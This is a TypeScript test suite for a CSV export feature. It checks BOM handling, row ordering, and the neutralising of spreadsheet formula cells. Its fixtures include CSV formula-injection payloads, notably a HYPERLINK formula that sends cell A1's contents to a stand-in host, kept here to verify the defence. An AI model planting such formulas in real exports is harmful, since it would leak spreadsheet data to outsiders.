import fs from "node:fs";
import path from "node:path";

import Papa from "papaparse";
import { describe, expect, it } from "vitest";

import type { Db } from "@/db/client";
import { normalisePhone } from "@/lib/ingest/normalise/phone";
import { exportSegment } from "@/lib/segments/export/export-segment";
import { allSegmentRows } from "@/lib/segments/query/read-rows";
import { segmentFilter } from "@/lib/segments/query/segment-filter";
import { findSegment } from "@/lib/segments/store/find-segment";
import { tempDatabase } from "@/lib/testing/temp-db";

import { csvLine, neutralise } from "../csv";

const fixtures = path.join(__dirname, "fixtures");
const read = (name: string) =>
  Papa.parse<Record<string, string>>(fs.readFileSync(path.join(fixtures, name), "utf8"), {
    header: true,
    skipEmptyLines: true,
  }).data;

/**
 * Case 16: five people from a social export, their orders, one audience of
 * all of them. Profiles and metrics are written as an import and recompute
 * would leave them, so only the export is under test.
 */
function caseDatabase(): { db: Db; segmentId: number } {
  const { db } = tempDatabase();
  const sqlite = db.$client;
  sqlite.exec(`INSERT INTO sources (id, key, label) VALUES (1, 'social', 'Social'), (2, 'shop', 'Shop');
    INSERT INTO imports (id, source_id, file_name, preset, status, created_by) VALUES (1, 1, 'x', 'x', 'done', 't');
    INSERT INTO metric_runs (as_of_day, currency, settings, duration_ms) VALUES (19880, 'CNY', '{}', 0);`);
  const spend = new Map<string, number>();
  for (const order of read("orders.csv")) {
    spend.set(order.email, (spend.get(order.email) ?? 0) + Math.round(Number(order.amount) * 100));
  }
  read("social_interactions.csv").forEach((person, i) => {
    const id = i + 1;
    const phone = normalisePhone(person.phone, "CN");
    sqlite
      .prepare("INSERT INTO profiles (id, key, name, email, phone) VALUES (?, ?, ?, ?, ?)")
      .run(
        id,
        `email:${person.email}`,
        person.display_name,
        person.email,
        phone.ok ? phone.e164 : person.phone,
      );
    sqlite
      .prepare(
        `INSERT INTO customer_metrics (profile_id, orders, revenue_minor, value_minor, tier, stage)
      VALUES (?, 1, ?, ?, 'base', 'new')`,
      )
      .run(id, spend.get(person.email), spend.get(person.email));
    sqlite
      .prepare(
        `INSERT INTO interactions (source_id, record_key, identifier_id, profile_id, kind, channel,
      occurred_at, day, detail, import_id) VALUES (1, ?, ?, ?, 'social', ?, '2024-06-01', 19875, ?, 1)`,
      )
      .run(`s${id}`, id, id, person.platform, person.comment);
  });
  const segmentId = Number(
    sqlite
      .prepare("INSERT INTO segments (name, rule) VALUES ('all', ?)")
      .run(JSON.stringify({ type: "group", match: "all", children: [] })).lastInsertRowid,
  );
  return { db, segmentId };
}

const labels = { profileId: "Profile ID", header: (field: string) => field, value: (_: string, key: string) => key };

async function exported(db: Db, segmentId: number): Promise<Buffer> {
  const { stream } = exportSegment(db, {
    segmentId,
    fields: ["name", "email", "phone", "last_note", "revenue"],
    labels,
  });
  return Buffer.from(await new Response(stream).arrayBuffer());
}

describe("export: CSV safe to open in Excel (case 16)", () => {
  it("starts with the UTF-8 BOM and keeps Chinese readable", async () => {
    const { db, segmentId } = caseDatabase();
    const file = await exported(db, segmentId);
    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = file.toString("utf8");
    expect(text).toContain("林小雨");
    expect(text).toContain("很喜欢这次活动");
  });

  it("neutralises formula cells, keeps plain text and app-written numbers, and re-parses to 5 rows", async () => {
    const { db, segmentId } = caseDatabase();
    const text = (await exported(db, segmentId)).toString("utf8").slice(1);
    const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(rows[0]).toEqual(["Profile ID", "name", "email", "phone", "last_note", "revenue"]);
    const byEmail = Object.fromEntries(
      rows
        .slice(1)
        .map(([, name, email, phone, note, revenue]) => [email, { name, phone, note, revenue }]),
    );
    expect(rows.length - 1).toBe(5);
    // Highest spend first, as the segment's preview lists them.
    expect(rows.slice(1).map((row) => row[5]))
      .toEqual(["300.00", "250.00", "220.00", "200.00", "180.00"]);
    expect(byEmail["sunny.w@example.cn"]).toEqual({
      name: `'=HYPERLINK("http://prize.example/?d="&A1,"Claim prize")`,
      phone: "'+8613500135000",
      note: "'=1+1",
      revenue: "300.00",
    });
    expect(byEmail["mk.art@example.com"]).toEqual({
      name: "'+1+1",
      phone: "'+14155550134",
      note: "'@SUM(1,1)",
      revenue: "250.00",
    });
    expect(byEmail["yu.h@example.cn"]).toEqual({
      name: "'-2+3",
      phone: "'+8613400134000",
      note: "'\t=1+1",
      revenue: "200.00",
    });
    expect(byEmail["plain.jane@example.com"]).toEqual({
      name: "Plain Jane",
      phone: "'+447700900123",
      note: "' =2+2",
      revenue: "180.00",
    });
    expect(byEmail["lin.xy@example.cn"]).toEqual({
      name: "林小雨",
      phone: "'+8613300133000",
      note: "很喜欢这次活动",
      revenue: "220.00",
    });
    // The quotes inside HYPERLINK are doubled in the file itself.
    expect(text).toContain(`"'=HYPERLINK(""http://prize.example/?d=""&A1,""Claim prize"")"`);
  });

  it("reads page after page in that order, however small the page", () => {
    const { db, segmentId } = caseDatabase();
    const { where } = segmentFilter(db, findSegment(db, segmentId).rule);
    const rows = [...allSegmentRows(db, { where, fields: ["revenue"], page: 2 })];
    expect(rows.map((row) => row.values[0])).toEqual([30_000, 25_000, 22_000, 20_000, 18_000]);
  });

  it("leaves the database's text as it was", async () => {
    const { db, segmentId } = caseDatabase();
    await exported(db, segmentId);
    const name = db.$client
      .prepare("SELECT name FROM profiles WHERE email = 'mk.art@example.com'")
      .get();
    expect(name).toEqual({ name: "+1+1" });
  });
});

describe("export: the cell guard", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["  =2+2", "'  =2+2"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1", "'\r=1"],
    ["-2+3", "'-2+3"],
    ["@SUM(1)", "'@SUM(1)"],
    ["+86 135", "'+86 135"],
    ["a=b", "a=b"],
    ["Plain Jane", "Plain Jane"],
    ["", ""],
  ])("neutralise(%j) is %j", (raw, expected) => {
    expect(neutralise(raw)).toBe(expected);
  });

  it("writes numbers the app computed as plain numbers, even negative ones", () => {
    expect(csvLine([-12.5, 0, "-12.50", null, "a,b", 'say "hi"'])).toBe(
      `-12.5,0,'-12.50,,"a,b","say ""hi"""\r\n`,
    );
  });
});
